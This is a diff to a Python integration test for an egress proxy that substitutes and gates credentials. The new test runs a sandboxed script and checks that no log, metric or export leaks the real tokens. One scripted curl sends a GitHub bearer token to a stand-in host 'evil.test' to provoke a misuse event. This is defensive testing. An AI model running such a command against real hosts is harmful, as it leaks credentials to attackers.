@@ -9,8 +9,11 @@ from __future__ import annotations
 
 import base64
 import json
+import socket
 import subprocess
 import sys
+import time
+import urllib.request
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -28,6 +31,7 @@ from tests.credentials_harness import (
 from tests.dnsfake import FakeDns
 from tests.gitserver import make_repository
 from tests.harness import LocalCA, clean_env
+from tests.otlp_receiver import GrpcReceiver
 
 pytestmark = [pytest.mark.netns, pytest.mark.timeout(180)]
 REPO = Path(__file__).resolve().parents[3]
@@ -105,18 +109,23 @@ class World:
         self.log = tmp / "decisions.jsonl"
         self.journal = tmp / "journal"
 
-    def run(self, script: str, **env: str) -> subprocess.CompletedProcess[str]:
-        environment = clean_env(
-            EGRESS_TEST_GITHUB=GITHUB_TOKEN, GITHUB_TOKEN=GITHUB_TOKEN, MY_COPY=f"x{GITHUB_TOKEN}x",
-            **env,
-        )  # fmt: skip
+    def argv(self, script: str, *extra: str) -> list[str]:
+        return [sys.executable, "-m", "proxy.app.cli", "run", "--policy", str(self.policy),
+                "--credentials", str(self.credentials), "--nameserver", self.dns.nameserver,
+                "--state-dir", str(self.tmp / "state"), "--upstream-ca", str(self.ca.ca_path),
+                "--decision-log", str(self.log), "--journal", str(self.journal), *extra,
+                "--", "sh", "-c", script]  # fmt: skip
+
+    @staticmethod
+    def env() -> dict[str, str]:
+        return clean_env(
+            EGRESS_TEST_GITHUB=GITHUB_TOKEN, GITHUB_TOKEN=GITHUB_TOKEN, MY_COPY=f"x{GITHUB_TOKEN}x"
+        )
+
+    def run(self, script: str) -> subprocess.CompletedProcess[str]:
         return subprocess.run(
-            [sys.executable, "-m", "proxy.app.cli", "run", "--policy", str(self.policy),
-             "--credentials", str(self.credentials), "--nameserver", self.dns.nameserver,
-             "--state-dir", str(self.tmp / "state"), "--upstream-ca", str(self.ca.ca_path),
-             "--decision-log", str(self.log), "--journal", str(self.journal),
-             "--", "sh", "-c", script],
-            cwd=REPO, capture_output=True, text=True, timeout=150, env=environment,
+            self.argv(script), cwd=REPO, capture_output=True, text=True, timeout=150,
+            env=self.env(),
         )  # fmt: skip
 
     def decisions(self) -> list[dict[str, object]]:
@@ -233,3 +242,65 @@ def test_the_sandbox_cannot_read_the_real_values(world: World) -> None:
     assert GITHUB_TOKEN not in out and NPM_TOKEN not in out
     assert "EGRESS_TEST_GITHUB" not in out  # the source variable is not passed on
     assert world.npm_file.read_text().strip() == NPM_TOKEN  # it exists outside, hidden inside
+
+
+def _free_port() -> int:
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        return int(sock.getsockname()[1])
+
+
+def test_no_output_channel_ever_holds_a_real_value(
+    world: World, bound: EchoUpstream, git_auth: AuthGitServer, tmp_path: Path
+) -> None:
+    """Uses, misuse, an echo, git: then the gate's and egress run's stdout and stderr, the decision
+    log, the journal, the OTLP export and the metrics are searched for the real values."""
+    scraped = tmp_path / "scraped"
+    metrics_port = _free_port()
+    script = (
+        f'curl -sS -H "Authorization: Bearer $GH_TOKEN" https://allowed.test:{world.bound}/a; '
+        f'curl -sS -H "Authorization: Bearer $NPM_TOKEN" https://allowed.test:{world.bound}/b; '
+        f'curl -sS -H "Authorization: Bearer $GH_TOKEN" https://evil.test:{world.other}/c; '
+        f"git clone -q https://allowed.test:{world.git}/myorg/demo.git {tmp_path / 'clone'}; "
+        f"touch {tmp_path / 'requests-done'}; "
+        f"for i in $(seq 600); do test -e {scraped} && break; sleep 0.1; done"
+    )
+    with GrpcReceiver() as receiver:
+        process = subprocess.Popen(
+            world.argv(script, "--otlp-endpoint", receiver.endpoint, "--otlp-protocol", "grpc",
+                       "--metrics", f"127.0.0.1:{metrics_port}"),
+            cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=world.env(),
+        )  # fmt: skip
+        try:
+            for _ in range(600):  # bounded: about a minute
+                if (tmp_path / "requests-done").exists() or process.poll() is not None:
+                    break
+                time.sleep(0.1)
+            url = f"http://127.0.0.1:{metrics_port}/metrics"
+            with urllib.request.urlopen(url, timeout=10) as response:
+                metrics = response.read().decode()
+        finally:
+            scraped.touch()
+            stdout, stderr = process.communicate(timeout=120)
+        journal = world.journal.read_text().splitlines()
+        exported = receiver.wait_for(len(journal), timeout=30)
+    assert process.returncode == 0, stderr
+    assert (tmp_path / "clone" / "README").is_file()
+    assert 'egress_credential_uses_total{credential="github",outcome="used"}' in metrics
+    assert 'egress_credential_uses_total{credential="github",outcome="misuse"} 1.0' in metrics
+    assert 'egress_credential_uses_total{credential="npm",outcome="used"} 1.0' in metrics
+    channels = {
+        "stdout": stdout,
+        "stderr": stderr,
+        "decision log": world.log.read_text(),
+        "journal": "\n".join(journal),
+        "otlp": "\n".join(repr(r) for r in exported),
+        "metrics": metrics,
+    }
+    assert "credential-misuse" in channels["decision log"] and '"credential"' in channels["journal"]
+    assert len(exported) == len(journal)
+    assert any(r.attributes.get("egress.credential") == "github" for r in exported)
+    for name, text in channels.items():
+        assert text, name
+        for secret in (GITHUB_TOKEN, NPM_TOKEN, BASIC.split()[1]):
+            assert secret not in text, f"a real value in {name}"
